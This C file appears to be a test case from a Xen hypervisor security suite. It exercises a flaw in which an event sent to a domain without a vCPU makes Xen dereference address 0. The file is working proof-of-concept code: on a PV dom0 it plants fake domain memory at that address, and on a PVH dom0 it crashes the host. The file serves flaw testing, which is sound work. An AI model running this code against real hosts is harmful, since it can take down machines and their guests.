// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-CONTENT-EVTCHN: an event for a domain of root's own making.
 *
 * An event channel of another domain's notifies that domain's first vCPU, even
 * if no vCPU has been made: whoever sends an event has Xen follow the address 0.
 * Under a PV dom0 root's memory lies there (see U-CONTENT-NOVCPU), and says where
 * the bit of a pending event is. On a PVH dom0 the host crashes.
 */
#include "content.h"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include <xen/event_channel.h>
#include <xen/evtchn.h>

/*
 * What the pretended domain consists of: the address of the page that it shares
 * with Xen, and, in whatever Xen reads 32 bits of, no vCPUs or one.
 */
#define SHARED_AT 0x100000000UL

/* Behind what 32 vCPUs have in that page: a bit for each event, and its mask. */
#define PENDING (32 * 64)

/* All events are masked, so that nobody is woken. None is pending. */
static uint64_t *pretend_shared_page(void)
{
    uint64_t *page = mmap((void *)SHARED_AT, PAGE_SIZE, PROT_READ | PROT_WRITE,
                          MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED,
                          -1, 0);
    const size_t pending = PENDING / sizeof(*page);

    memset(page + pending + 1, 0xff, PAGE_SIZE - PENDING - sizeof(*page));
    return page + pending;
}

static bool pretend_domain(void)
{
    static const size_t size = 2 * PAGE_SIZE;
    uint64_t *domain = buffer(size);

    for ( size_t i = 0; i < size / sizeof(*domain); i++ )
        domain[i] = SHARED_AT;
    return pretend((uintptr_t)domain);
}

/* An event from here to a port of the domain's. */
static void send_event(domid_t domid, evtchn_port_t port)
{
    const int events = open("/dev/xen/evtchn", O_RDWR | O_CLOEXEC);
    struct ioctl_evtchn_bind_interdomain bind = { domid, port };
    struct ioctl_evtchn_notify notify = {
        .port = (unsigned int)ioctl(events, IOCTL_EVTCHN_BIND_INTERDOMAIN,
                                    &bind)
    };

    announce("about to send an event to a domain without a vCPU");
    ioctl(events, IOCTL_EVTCHN_NOTIFY, &notify);
    close(events);
}

RAW_ATTACK_OWN_BOOT("U-CONTENT-EVTCHN", "an event for a domain without a vCPU")
{
    const domid_t domid = new_domain_without_vcpu(DOMU_PV);
    const volatile uint64_t *pending = pretend_shared_page();
    struct control_op_call *open_port;
    long result;

    if ( domid == DOMID_INVALID )
        return missing("no domU");
    if ( dom0_is_pv() && !pretend_domain() )
        return missing("no memory at the address 0");

    open_port = OP_CALL(event_channel_op, EVTCHNOP_alloc_unbound,
                        struct evtchn_alloc_unbound, .dom = domid,
                        .remote_dom = DOMID_SELF);
    result = issue(open_port);
    if ( !result )
        send_event(
            domid,
            ((struct evtchn_alloc_unbound *)structure_of(open_port))->port);
    end_domain(domid);

    return content_seen(*pending, result,
                        "an event is pending in a domain that root wrote");
}
